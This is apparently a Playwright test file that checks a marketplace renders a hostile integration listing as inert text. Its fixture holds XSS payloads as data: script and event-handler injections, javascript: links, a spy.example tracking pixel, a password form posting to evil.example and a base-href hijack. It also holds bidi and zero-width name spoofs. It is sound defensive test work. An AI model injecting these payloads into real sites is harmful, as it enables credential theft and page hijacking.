"""A developer who means harm writes a listing: it stays text, and the pages around it stay whole."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from infra.visitor import Visitor

Window = Callable[..., Page]

DESCRIPTION = (
    """<script>document.title = 'taken'</script>
<img src=x onerror="document.title = 'taken'"> <svg onload="document.title = 'taken'"></svg>
[press me](javascript:document.title='taken') [or me](data:text/html,taken) ![pixel](https://spy.example/p.png)
<style>body { display: none }</style> <form action="https://evil.example"><input name=password></form>
</main></div><h1>Fake heading</h1> <base href="https://evil.example/">
"""
    + "W" * 400
)


@pytest.fixture
def hostile(developer: Visitor, unique: str) -> dict[str, str]:
    name = f"<b onclick=x>{unique}</b>" + "m" * 40
    body = {"name": name[:60], "scopes": ["profile"], "description": DESCRIPTION}
    made: dict[str, str] = developer.call("POST", "/integrations", json=body)
    return made


@pytest.mark.parametrize("width", [1280, 390])
def test_IN_17_a_hostile_listing_is_only_text(
    window: Window, customer: Visitor, developer: Visitor, hostile: dict[str, str], width: int
) -> None:
    for who, path in (
        (customer, f"/marketplace/find?client_id={hostile['client_id']}"),
        (developer, f"/portal/integrations/{hostile['integration_id']}"),
        (developer, f"/portal/integrations/{hostile['integration_id']}/delete"),
        (developer, "/portal/integrations"),
        (developer, "/portal"),
    ):
        page = window(who, width=width)
        page.goto(path)
        assert "taken" not in page.title()
        expect(page.locator("main")).to_be_visible()
        assert page.locator("h1").count() == 1
        assert page.locator("main [onerror], main [onclick], main [onload], main script, main style, base").count() == 0
        assert page.locator("main img[src*='spy.example'], form[action*='evil']").count() == 0
        assert page.locator("main a[href^='javascript'], main a[href^='data']").count() == 0
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path


def test_IN_17_invisible_and_turning_letters_are_refused_in_names(developer: Visitor) -> None:
    for name in ("Kvitto\u202egnp.exe", "Kvi\u200btto", "Kvitto\u0000", "\u2066Kvitto"):
        developer.call("POST", "/integrations", json={"name": name, "scopes": ["profile"]}, expect=422)
